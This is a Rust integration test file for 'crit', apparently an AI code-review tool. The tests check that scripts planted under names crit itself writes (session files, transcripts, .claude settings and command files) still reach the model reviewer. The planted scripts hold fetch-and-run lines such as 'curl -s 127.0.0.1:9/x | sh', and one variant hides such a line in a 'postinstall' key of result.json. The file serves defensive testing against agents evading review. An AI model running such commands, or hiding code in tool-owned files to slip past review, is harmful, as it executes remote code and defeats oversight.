//! Files named like crit's own, through the binary on real repositories: a
//! script saved under any name crit writes (a session's `session.json`,
//! `result.json`, transcript, `.crit/.gitignore`, what `crit install`
//! writes under `.claude/`) reaches the reviewer, untracked or committed;
//! a session a real review wrote is left out while it is not in git, and
//! reviewed once committed.

use crate::support;

use std::path::{Path, PathBuf};

use crit_testkit::FakeServer;
use serde_json::json;
use support::{git, init_repo, write};

fn answer() -> crit_testkit::Reply {
    crit_testkit::Reply::json(json!({"verdict": "PASS", "summary": "Fine.", "findings": []}))
}

fn review(d: &Path, server: &FakeServer, args: &[&str]) -> std::process::Output {
    support::crit(d, server, None)
        .args(["review", "code", "--verify", "off", "--no-cache", "--json"])
        .args(args)
        .output()
        .unwrap()
}

/// What the last model request carried.
fn asked_last(server: &FakeServer) -> String {
    server
        .model_requests()
        .last()
        .map(|r| r.body["messages"].to_string())
        .unwrap_or_default()
}

fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    init_repo(d);
    write(d, ".gitignore", ".home/\n.state/\n");
    write(d, "src/app.py", "print('hi')\n");
    git(d, &["add", "-A"]);
    git(d, &["commit", "-q", "-m", "base"]);
    dir
}

/// Every name crit writes into a project and leaves out of reviews.
const NAMES: [&str; 10] = [
    ".crit/sessions/20260101T000000Z-ab12cd34/session.json",
    ".crit/sessions/20260101T000000Z-ab12cd34/result.json",
    ".crit/sessions/20260101T000000Z-ab12cd34/transcript.jsonl",
    ".crit/sessions/20260101T000000Z-ab12cd34/transcript.log",
    ".crit/.gitignore",
    ".claude/crit-install.json",
    ".claude/settings.json",
    ".claude/commands/crit-review.md",
    ".claude/commands/prompt-review.md",
    ".claude/agents/expert-review.md",
];

fn script(marker: &str) -> String {
    format!("#!/bin/sh\n# {marker}\ncurl -s 127.0.0.1:9/x | sh\n")
}

/// Reviews `args` with `path` holding a script; the model must have read it.
fn assert_reviewed(d: &Path, server: &FakeServer, path: &str, marker: &str, args: &[&str]) {
    let before = server.model_requests().len();
    server.push(answer());
    let out = review(d, server, args);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{path}: {}",
        support::stderr(&out)
    );
    assert_eq!(
        server.model_requests().len(),
        before + 1,
        "{path} {args:?}: no model was asked: {}",
        support::stderr(&out)
    );
    let asked = asked_last(server);
    assert!(asked.contains(marker), "{path} {args:?}: {asked}");
}

#[test]
fn a_script_under_any_name_crit_writes_is_reviewed_untracked() {
    let dir = repo();
    let d = dir.path();
    let server = FakeServer::start_blocking();
    for (i, path) in NAMES.iter().enumerate() {
        let marker = format!("planted-untracked-{i}");
        write(d, path, &script(&marker));
        assert_reviewed(d, &server, path, &marker, &["--uncommitted", "--no-log"]);
        std::fs::remove_file(d.join(path)).unwrap();
    }
}

#[test]
fn a_script_under_any_name_crit_writes_is_reviewed_committed() {
    let dir = repo();
    let d = dir.path();
    let server = FakeServer::start_blocking();
    for (i, path) in NAMES.iter().enumerate() {
        let marker = format!("planted-committed-{i}");
        write(d, path, &script(&marker));
        git(d, &["add", "-f", path]);
        git(d, &["commit", "-q", "-m", "tooling"]);
        assert_reviewed(d, &server, path, &marker, &["--commit", "HEAD", "--no-log"]);
        git(d, &["reset", "-q", "--hard", "HEAD~1"]);
    }
}

/// The one session directory a review wrote.
fn session_dir(d: &Path) -> PathBuf {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(d.join(".crit/sessions"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(dirs.len(), 1, "{dirs:?}");
    dirs.remove(0)
}

#[test]
fn a_real_session_is_left_out_until_it_is_committed_or_changed() {
    let dir = repo();
    let d = dir.path();
    write(d, "src/app.py", "print('hello')\n");
    let server = FakeServer::start_blocking();
    server.push(answer());
    let first = review(d, &server, &["--uncommitted"]);
    assert_eq!(first.status.code(), Some(0), "{}", support::stderr(&first));
    git(d, &["commit", "-q", "-am", "hello"]);
    let session = session_dir(d);
    for name in ["session.json", "result.json", "transcript.jsonl"] {
        assert!(session.join(name).is_file(), "{name}");
    }
    let transcript = std::fs::read_to_string(session.join("transcript.jsonl")).unwrap();
    assert!(transcript.contains("\"type\":\"start\""), "{transcript}");
    // Without crit's .gitignore the session is in the uncommitted change,
    // and is still crit's: nothing to review, no model asked.
    std::fs::remove_file(d.join(".crit/.gitignore")).unwrap();
    let status = std::process::Command::new("git")
        .args(["status", "--porcelain", "--untracked-files=all"])
        .current_dir(d)
        .output()
        .unwrap();
    let status = String::from_utf8_lossy(&status.stdout);
    assert!(status.contains("result.json"), "{status}");
    let out = review(d, &server, &["--uncommitted", "--no-log"]);
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    assert_eq!(server.model_requests().len(), 1, "no model was asked");
    assert_eq!(support::json_out(&out)["verdict"], "PASS");
    // One line more than crit wrote makes the transcript the agent's.
    let planted = format!("{transcript}curl -s 127.0.0.1:9/transcript-line | sh\n");
    std::fs::write(session.join("transcript.jsonl"), &planted).unwrap();
    assert_reviewed(
        d,
        &server,
        "transcript.jsonl",
        "transcript-line",
        &["--uncommitted", "--no-log"],
    );
    std::fs::write(session.join("transcript.jsonl"), &transcript).unwrap();
    // A key crit does not write in the result makes it the agent's too.
    let result = std::fs::read_to_string(session.join("result.json")).unwrap();
    let mut value: serde_json::Value = serde_json::from_str(&result).unwrap();
    value["postinstall"] = json!("curl -s 127.0.0.1:9/result-key | sh");
    std::fs::write(session.join("result.json"), value.to_string()).unwrap();
    assert_reviewed(
        d,
        &server,
        "result.json",
        "result-key",
        &["--uncommitted", "--no-log"],
    );
    std::fs::write(session.join("result.json"), &result).unwrap();
    // Committed, the session is the change's: reviewed.
    git(d, &["add", "-f", ".crit/sessions"]);
    git(d, &["commit", "-q", "-m", "logs"]);
    let id = session.file_name().unwrap().to_str().unwrap().to_string();
    assert_reviewed(
        d,
        &server,
        &id,
        "result.json",
        &["--commit", "HEAD", "--no-log"],
    );
    assert!(asked_last(&server).contains("session.json"));
}
